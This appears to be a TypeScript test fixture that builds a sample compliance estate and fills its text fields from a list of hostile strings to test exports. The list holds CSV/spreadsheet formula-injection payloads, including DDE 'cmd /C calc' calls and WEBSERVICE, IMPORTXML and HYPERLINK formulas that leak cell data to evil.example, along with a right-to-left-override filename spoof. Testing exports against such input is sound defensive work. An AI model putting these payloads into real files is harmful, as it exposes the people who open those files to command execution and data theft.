/** An estate with something of everything, whose texts try to run: for the tests of all exports. */
import { createHash, generateKeyPairSync, type KeyObject, sign } from 'node:crypto';
import { canonicalEvidence } from '@demarc/platform/contract';
import { canonicalJson } from '@demarc/platform/ocsf';
import { loadCatalogue } from '../catalogue/catalogue.ts';
import type { Assessment } from '../evaluation/assessment.ts';
import { type Dossier, decided } from '../evaluation/dossier.ts';
import { type ActName, type ActPayload, Acts, type NewAct } from '../model/acts.ts';
import type { EvidenceRow } from '../model/evidence.ts';
import { chained, GENESIS, type LedgerRecord } from '../store/ledger.ts';
import type { HeldKey } from './bundle/lines.ts';

export const START = Date.parse('2026-11-01T08:00:00.000Z');
export const AS_OF = Date.parse('2026-11-20T12:34:56.789Z');
const HOUR = 3_600_000;
const DAY = 24 * HOUR;

/** What has run in somebody's spreadsheet before. */
export const PAYLOADS = [
  '=1+1',
  '+1+1',
  '-1+1',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  '=IMPORTXML(CONCAT("http://evil.example/?v=",A1),"//a")',
  '=WEBSERVICE("http://evil.example/")',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  "'=1+1",
  '"=1+1',
  '|=1+1',
  '%0A=1+1',
  '=DDE("cmd";"/C calc";"x")',
  '&C&"Arial"=1+1',
  '</t></si><f>1+1</f>',
  '_x003D_1+1',
  'a\u0000b\u0001c\u000bd\u001be\u007ff',
  'lone \ud800 surrogate',
  'gnp.\u202eexe',
] as const;

export interface Estate {
  readonly assessment: Assessment;
  readonly dossier: Dossier;
  readonly keys: readonly HeldKey[];
  readonly signingKey: KeyObject;
}

export const CATALOGUE = loadCatalogue();

/** @param text where people write, this is written; one of `PAYLOADS` in each place where it is left out */
export function estate({
  machines = 3,
  text,
}: {
  readonly machines?: number;
  readonly text?: string;
} = {}): Estate {
  let drawn = 0;
  const says = (): string => {
    drawn += 1;
    return text ?? PAYLOADS[drawn % PAYLOADS.length] ?? '';
  };
  const acts: NewAct[] = [];
  let atMs = START;
  const act = <Name extends ActName>(name: Name, payload: ActPayload<Name>, validAtMs?: number): void => {
    atMs += 60_000;
    acts.push({
      name,
      payload,
      atMs: validAtMs ?? atMs,
      recordedAtMs: atMs,
      actor: says(),
    } as unknown as NewAct);
  };
  const vms = Array.from({ length: machines }, (_, index) => `vm-${String(index + 1).padStart(3, '0')}`);
  const tenant = { kind: 'tenant' } as const;

  for (const [index, assetId] of vms.entries())
    act('asset-declared', {
      assetId,
      name: index === 0 ? says() : assetId,
      type: 'vm',
      labels: { env: says(), n: `${index % 2}` },
    });
  act('asset-declared', {
    assetId: 'db-1',
    name: 'orders',
    type: 'database',
    labels: { 'runs-on': 'vm-001' },
  });
  act('group-defined', { groupId: 'odd', name: says(), priority: 1, labels: { n: '1' } });
  act('party-registered', { partyId: 'auditco', name: says(), kind: 'organization', role: 'third-party' });
  act('schedule-accepted', {});
  act('standard-published', {
    standardId: says(),
    version: '1.0',
    title: says(),
    useCase: says(),
    requirements: [says(), says()],
    controls: [{ controlId: 'VMS-09', parameters: { [says()]: says() }, approvedDigests: [] }],
    hld: [{ document: says(), section: '2.1' }],
    lld: [{ document: 'LLD', section: says(), digest: 'ab'.repeat(32) }],
  });
  act('decision-recorded', {
    decisionId: 'OM-02',
    scope: tenant,
    answer: says(),
    party: 'ams',
    duties: ['operate'],
  });
  act('claim-proposed', {
    claimId: 'c1',
    controls: ['GOV-03'],
    duties: ['operate', 'respond'],
    party: 'auditco',
    scope: tenant,
    kind: 'assign',
    source: 'contract',
    reason: says(),
    toMs: AS_OF + 30 * DAY,
  });
  act('claim-accepted', { claimId: 'c1', party: 'auditco', person: says() });
  act('claim-proposed', {
    claimId: 'c2',
    controls: ['VMS-02'],
    duties: ['operate'],
    party: 'customer',
    scope: { kind: 'asset', assetId: 'vm-001' },
    kind: 'assign',
    source: 'override',
    reason: says(),
  });
  act('claim-disputed', { claimId: 'c2', party: 'customer', person: says(), reason: says() });
  act('service-bought', {
    entitlementId: 'e1',
    serviceId: 'file-integrity-monitoring',
    tier: 'managed',
    assetIds: vms,
    prerequisites: [],
  });
  for (const assetId of vms.slice(1))
    act('service-operational', { entitlementId: 'e1', assetId, evidenceId: `first-${assetId}` });
  act('service-notice-given', { entitlementId: 'e1', endsAtMs: AS_OF + 60 * DAY, reason: says() });
  act('exception-requested', {
    exceptionId: 'x1',
    controls: ['VMS-09'],
    scope: tenant,
    reason: says(),
    compensatingControls: ['GOV-03'],
    riskId: 'R-01',
    requester: says(),
    toMs: AS_OF + DAY,
  });
  act('exception-approved', { exceptionId: 'x1', approver: says() });
  act('exception-requested', {
    exceptionId: 'x2',
    controls: ['*'],
    scope: { kind: 'group', groupId: 'odd' },
    reason: says(),
    compensatingControls: [],
    requester: says(),
    toMs: AS_OF + DAY,
  });
  act('not-applicable-approved', {
    approvalId: 'n1',
    controlId: 'VMS-10',
    scope: tenant,
    reason: says(),
    approver: says(),
    reviewAtMs: AS_OF + 90 * DAY,
  });
  act('risk-recorded', {
    riskId: 'R-90',
    title: says(),
    scenario: says(),
    threat: says(),
    likelihood: 5,
    impact: 4,
    controls: [{ controlId: 'VMS-09', reduces: 'likelihood', steps: 2 }],
    treatment: 'accept',
    owner: says(),
    reviewAtMs: AS_OF + DAY,
  });
  act('risk-reviewed', { riskId: 'R-90', person: says(), note: says() });
  act('appetite-set', { score: 9 });
  act('control-annotated', {
    controlId: 'VMS-09',
    scope: tenant,
    applied: true,
    rationale: says(),
    example: says(),
    configuration: says(),
    hld: [{ document: says(), section: '' }],
    reviewAtMs: AS_OF + 7 * DAY,
  });
  act('control-annotated', {
    controlId: 'VMS-09',
    scope: { kind: 'asset', assetId: 'vm-002' },
    applied: false,
    rationale: says(),
  });
  act('control-annotated', { controlId: 'GOV-01', scope: tenant, applied: false, configuration: says() });
  // What is recorded later, or holds later, is no part of it; the chain has it all the same.
  act('appetite-set', { score: 1 }, AS_OF + 1);

  const records: LedgerRecord[] = [];
  for (const each of acts) {
    const payload = Acts[each.name].parse(each.payload) as never;
    records.push(chained(records.length + 1, { ...each, payload }, records.at(-1)?.hash ?? GENESIS));
  }

  const pair = generateKeyPairSync('ec', { namedCurve: 'P-256' });
  const sources = new Map([...CATALOGUE.rules].map(([id, { rule }]) => [id, rule.freshForSeconds]));
  sources.delete('VMS-11.1');
  const evidence = evidenceOf(['tenant', 'db-1', ...vms], pair.privateKey, says);
  const holders = ['tenant', 'db-1', ...vms];
  const publicKeyPem = pair.publicKey.export({ type: 'spki', format: 'pem' }).toString();
  const facts = { tenantId: 'acme', asOfMs: AS_OF, knownAtMs: AS_OF, records, evidence, sources };
  const dossier = decided(facts, CATALOGUE);
  return {
    assessment: dossier.assessment,
    dossier,
    keys: holders.map((holder) => ({ holder, publicKeyPem })),
    signingKey: pair.privateKey,
  };
}

/** Most of it passes, some fails, some is old, some was never received. */
function evidenceOf(assetIds: readonly string[], key: KeyObject, says: () => string): readonly EvidenceRow[] {
  const rows: EvidenceRow[] = [];
  for (const [across, assetId] of assetIds.entries())
    for (const [down, [rule, { rule: spec }]] of [...CATALOGUE.rules].entries()) {
      const drawn = (across * 7 + down * 3) % 11;
      if (drawn === 10 || (across === 1 && down % 2 === 0)) continue;
      const result = drawn === 9 ? 'fail' : 'pass';
      const observedAtMs = AS_OF - (drawn === 8 ? spec.freshForSeconds * 1_000 + HOUR : 1_000 * (down + 1));
      const raw = { observedAtMs, looked: says().toWellFormed().replaceAll('\u0000', ''), at: rule };
      const unsigned = {
        uid: createHash('sha256').update(`${assetId} ${rule}`).digest('hex'),
        rule,
        service: 'file-integrity-monitoring',
        observedAtMs,
        result,
        because: says().toWellFormed().replaceAll('\u0000', '') || 'because',
        digest: createHash('sha256').update(canonicalJson(raw)).digest('hex'),
      } as const;
      rows.push({
        uid: unsigned.uid,
        asset_id: assetId,
        rule,
        service: unsigned.service,
        result,
        because: unsigned.because,
        observed_at_ms: observedAtMs,
        received_at_ms: observedAtMs + 500,
        effective_at_ms: observedAtMs,
        expires_at_ms: null,
        operator: null,
        digest: unsigned.digest,
        raw,
        signature: sign('sha256', Buffer.from(canonicalEvidence(unsigned)), key).toString('base64'),
      });
    }
  return rows;
}
